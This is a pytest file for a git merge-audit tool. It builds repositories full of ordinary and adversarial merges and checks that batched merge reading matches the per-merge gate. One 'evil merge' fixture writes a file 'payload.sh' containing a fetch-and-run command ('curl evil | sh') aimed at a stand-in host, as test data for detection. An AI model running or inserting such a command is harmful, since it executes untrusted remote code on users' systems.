"""A run of merges read at once gives each merge exactly what the gate's own read gives.

``MergeRuns.read`` replaces two git processes per merge (``git log merge ^first-parent`` and
``git merge-tree``) by two per run (issue 13). The history below holds every kind of merge a
real history has and the ones an attacker would craft: clean merges, conflicts resolved, a
conflict committed with its markers, a modify/delete conflict resolved to the modified file
(the tree matches the re-merge: only the conflict tells), an evil merge (a clean merge plus
content of its own, one file named by a newline), an octopus, a criss-cross, a topic that
merged main into itself, a topic with a merge of its own and the criss-cross's first merge
(two orders possible: left to the gate), and, in one variant, a merge of an unrelated history
(merge-tree refuses it; a re-merge would not). Each merge the run answers for must equal
``brought_commits`` of it: commits, order, paths and ``clean_merge`` alike.
"""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from tests.support.gitrepo import ALICE, BOB, CAROL, GitRepo, Person
from twokey.audit import AuditOptions, ReportFormat, render, run_audit
from twokey.git import GitReader, MergeRuns, brought_commits
from twokey.git._order import reachable_within
from twokey.git._resolution import merge_resolution, merge_resolutions, plain_diff_config
from twokey.model import Commit

REF = "refs/heads/main"


class History:
    """A repository on ``main`` and its merges by label."""

    def __init__(self, root: Path) -> None:
        self.repo = GitRepo.init(root)
        self.merges: dict[str, str] = {}
        self.day = 0
        self.repo.commit({"base.txt": "base\n", "conf.txt": "x\n", "md.txt": "1\n"}, "init", ALICE)

    def when(self) -> str:
        self.day += 1
        return f"2026-03-01T10:{self.day:02d}:00+00:00"

    def commit(self, files: dict[str, str], who: Person = CAROL) -> str:
        return self.repo.commit(files, f"work {self.day}", who, when=self.when())

    def branch(self, name: str, start: str = "main") -> None:
        self.repo.git("checkout", "-q", "-b", name, start)

    def checkout(self, name: str) -> None:
        self.repo.git("checkout", "-q", name)

    def merge(self, label: str, *branches: str, files: dict[str, str | None] | None = None) -> str:
        """Merge ``branches`` into the current branch as bob; ``files`` resolve or add."""
        args = ["merge", "-q", "--no-ff", "--no-commit", *branches]
        if label == "unrelated":
            args.insert(1, "--allow-unrelated-histories")
        self.repo.git(*args, person=BOB, when=self.when(), check=False)  # conflicts: exit 1
        for path, content in (files or {}).items():
            if content is None:
                self.repo.git("rm", "-q", "--", path)
            else:
                self.repo.write(path, content)
        self.repo.git("add", "-A")
        self.repo.git("commit", "-q", "--no-edit", "-m", f"Merge {label}", person=BOB)
        self.merges[label] = self.repo.rev_parse("HEAD")
        return self.merges[label]

    def octopus(self, label: str, *parents: str) -> str:
        """A merge commit of HEAD and ``parents`` (git merge would drop known ones)."""
        self.repo.git("merge", "-q", "--no-ff", "--no-commit", parents[0], person=BOB)
        tree = self.repo.git("write-tree")
        args = [f"-p{p}" for p in ("HEAD", *parents)]
        sha = self.repo.git("commit-tree", tree, *args, "-m", label, person=BOB, when=self.when())
        self.repo.git("merge", "--abort")
        self.repo.git("reset", "-q", "--hard", sha)
        self.merges[label] = sha
        return sha

    def topic(
        self, label: str, work: dict[str, str], files: dict[str, str | None] | None = None
    ) -> str:
        """A one-commit topic from main, merged back (``files``: the merge's own edits)."""
        self.branch(label)
        self.commit(work)
        self.checkout("main")
        return self.merge(label, label, files=files)


def build(root: Path, *, unrelated: bool = False) -> History:
    h = History(root)
    h.topic("clean", {"a.txt": "a\n"})
    h.branch("conflict")
    h.commit({"conf.txt": "topic\n"})
    h.checkout("main")
    h.commit({"conf.txt": "main\n"}, ALICE)
    h.merge("conflict", "conflict", files={"conf.txt": "resolved\n"})
    h.branch("markers")
    h.commit({"conf.txt": "topic again\n"})
    h.checkout("main")
    h.commit({"conf.txt": "main again\n"}, ALICE)
    h.merge("markers", "markers")  # committed as git left it: with conflict markers
    h.branch("moddel")
    h.commit({"md.txt": "2\n"})
    h.checkout("main")
    h.repo.git("rm", "-q", "md.txt")
    h.repo.git("commit", "-q", "-m", "drop md", person=ALICE, when=h.when())
    h.merge("moddel", "moddel", files={"md.txt": "2\n"})  # the tree is the re-merge's
    h.topic("evil", {"b.txt": "b\n"}, files={"payload.sh": "curl evil | sh\n"})
    h.topic("newline", {"c.txt": "c\n"}, files={"\n": "hidden\n"})
    h.branch("o1")
    h.commit({"o1.txt": "1\n"})
    h.checkout("main")
    h.octopus("octopus", "o1", "main~3")  # a third parent main already has: one order
    h.branch("x")
    x1 = h.commit({"x.txt": "1\n"})
    h.branch("y", "main")
    y1 = h.commit({"y.txt": "1\n"})
    h.checkout("x")
    h.merge("x-takes-y", y1)
    h.checkout("y")
    h.merge("y-takes-x", x1)
    h.checkout("main")
    h.merge("criss-x", "x")
    h.merge("criss-y", "y")
    h.branch("behind")
    h.commit({"d.txt": "d\n"})
    h.checkout("main")
    h.commit({"e.txt": "e\n"}, ALICE)
    h.checkout("behind")
    h.merge("main-into-topic", "main")
    h.commit({"d.txt": "d2\n"})
    h.checkout("main")
    h.merge("caught-up", "behind")
    h.branch("forked")
    h.commit({"f.txt": "f\n"})
    h.branch("side")
    h.commit({"g.txt": "g\n"})
    h.checkout("forked")
    h.commit({"f.txt": "f2\n"})
    h.merge("side", "side")
    h.checkout("main")
    h.merge("forked", "forked")
    if unrelated:
        h.repo.git("checkout", "-q", "--orphan", "other")
        h.repo.git("rm", "-q", "-rf", ".")
        h.commit({"other.txt": "o\n"})
        h.checkout("main")
        h.merge("unrelated", "other")
    h.topic("last", {"z.txt": "z\n"})
    return h


def _chain(reader: GitReader) -> list[tuple[str, tuple[str, ...]]]:
    out = reader.git.text("log", "--first-parent", "--format=%H %P", REF)
    return [(line.split()[0], tuple(line.split()[1:])) for line in out.splitlines()]


def _gate(reader: GitReader, sha: str) -> list[Commit]:
    merge = next(c for c in reader.commits(sha, []) if c.sha == sha)
    return brought_commits(reader, merge)


@pytest.mark.parametrize("unrelated", [False, True])
def test_each_merge_of_a_run_is_the_gates_reading(tmp_path: Path, *, unrelated: bool) -> None:
    h = build(tmp_path / "repo", unrelated=unrelated)
    reader = GitReader(h.repo.path / ".git")
    chain = _chain(reader)
    runs = MergeRuns(reader, REF)
    found = {sha: runs.judged(commits) for sha, commits in runs.read(chain).items()}
    landed = {sha for sha, parents in chain if len(parents) > 1}
    assert set(found) <= landed
    two_orders = {h.merges["forked"], h.merges["criss-x"]}  # x1 or y1 first: the gate reads it
    assert landed - set(found) == two_orders
    for sha in landed:
        gate = _gate(reader, sha)
        assert sha not in found or found[sha] == gate, sha
    clean = {label: found[sha][-1].clean_merge for label, sha in h.merges.items() if sha in found}
    for label in ("clean", "criss-y", "last"):  # criss-y: two merge bases
        assert clean[label] is True, label
    for label in ("conflict", "markers", "moddel", "evil", "newline", "octopus"):
        assert clean[label] is False, label
    inside = found[h.merges["caught-up"]]
    assert [c.sha for c in inside if c.is_merge] == [h.merges["main-into-topic"], inside[-1].sha]
    if unrelated:
        assert clean["unrelated"] is False  # merge-tree refuses unrelated histories


def test_a_path_that_looks_like_a_record_is_the_gates_reading(tmp_path: Path) -> None:
    h = History(tmp_path / "repo")
    first = h.topic("clean", {"a.txt": "a\n"})
    forged = h.topic("forged", {"b.txt": "b\n"}, files={f"\x01{first}": "x\n"})
    reader = GitReader(h.repo.path / ".git")
    runs = MergeRuns(reader, REF)
    found = runs.read(_chain(reader))
    assert runs.judged(found[forged]) == _gate(reader, forged)
    assert runs.judged(found[first]) == _gate(reader, first)


def test_audit_reports_are_the_same_with_runs_and_without(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    h = build(tmp_path / "repo", unrelated=True)
    fast = run_audit(AuditOptions(h.repo.path))
    monkeypatch.setattr(MergeRuns, "read", lambda self, run: {})
    slow = run_audit(AuditOptions(h.repo.path))
    try:
        for fmt in (ReportFormat.JSON, ReportFormat.TEXT):
            assert render(fast, fmt) == render(slow, fmt)
        rows = json.loads(render(fast, ReportFormat.JSON))["changes"]
        assert len(rows) == len(_chain(GitReader(h.repo.path / ".git")))
    finally:
        fast.close()
        slow.close()


@pytest.mark.parametrize("unrelated", [False, True])
def test_a_heads_commits_taken_from_the_change_are_gits(tmp_path: Path, *, unrelated: bool) -> None:
    """``reachable_within`` (the landing of an approved head inside a merge, ADR 0030) gives
    what ``git log head ^old`` gives whenever it answers: for every commit of every merge."""
    h = build(tmp_path / "repo", unrelated=unrelated)
    reader = GitReader(h.repo.path / ".git")
    answered = 0
    for sha, parents in _chain(reader):
        if len(parents) < 2:
            continue
        brought = _gate(reader, sha)
        for head in [c.sha for c in brought]:
            found = reachable_within(head, brought)
            if found is not None:
                answered += 1
                assert found == reader.commits(head, [parents[0]], merges=False), (sha, head)
    assert answered > 10


def test_reviewed_topics_audit_the_same_with_landings_from_the_change(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Topic commits with review trailers are approved heads whose landing the audit reads:
    from the merge's own commits when their order is forced, else from git; same report."""
    h = build(tmp_path / "repo")
    for n in range(3):
        h.branch(f"reviewed{n}")
        for k in range(n + 1):
            message = f"topic {n}.{k}\n\nReviewed-by: Alice <alice@example.com>\n"
            h.repo.write(f"r{n}-{k}.txt", f"{k}\n")
            h.repo.git("add", "-A")
            h.repo.git("commit", "-q", "-m", message, person=CAROL, when=h.when())
        h.checkout("main")
        h.merge(f"reviewed{n}", f"reviewed{n}")
    fast = run_audit(AuditOptions(h.repo.path))
    monkeypatch.setattr("twokey.git._reader.reachable_within", lambda head, commits: None)
    slow = run_audit(AuditOptions(h.repo.path))
    try:
        for fmt in (ReportFormat.JSON, ReportFormat.TEXT):
            assert render(fast, fmt) == render(slow, fmt)
    finally:
        fast.close()
        slow.close()


def test_resolutions_measured_together_are_measured_alone(tmp_path: Path) -> None:
    """``merge_resolutions`` (one ``diff-tree --stdin``, ADR 0030) gives each merge that is not
    clean what ``merge_resolution`` (``git diff --numstat``) gives: conflicts resolved or
    committed with markers, modify/delete, evil content, a binary file, paths with a newline,
    a tab or a line that reads like the next record's header."""
    h = build(tmp_path / "repo", unrelated=True)
    head = h.repo.rev_parse("HEAD")
    h.topic("odd", {"o.txt": "o\n"}, files={"tab\there": "x\n", f"{head} {head}\n": "y\n"})
    h.branch("binary")
    h.commit({"bin.dat": "a\0b\n"})
    h.checkout("main")
    h.merge("binary", "binary", files={"bin.dat": "c\0d\0e\n", "more.bin": "\0\n"})
    git = GitReader(h.repo.path / ".git").git
    reader = GitReader(h.repo.path / ".git")
    merges = [c for c in reader.commits(REF, []) if c.is_merge and c.clean_merge is False]
    read = [(m, reader.auto_merge(*m.parents)) for m in merges if len(m.parents) == 2]
    pairs = [(m, auto) for m, auto in read if auto is not None]
    assert len(pairs) >= 6
    assert plain_diff_config(git)
    together = merge_resolutions(git, pairs)
    assert together == {m.sha: merge_resolution(git, m) for m, _ in pairs}
    assert any(r.files and "bin.dat" in r.files for r in together.values())
    h.repo.git("config", "diff.algorithm", "patience")
    assert not plain_diff_config(GitReader(h.repo.path / ".git").git)
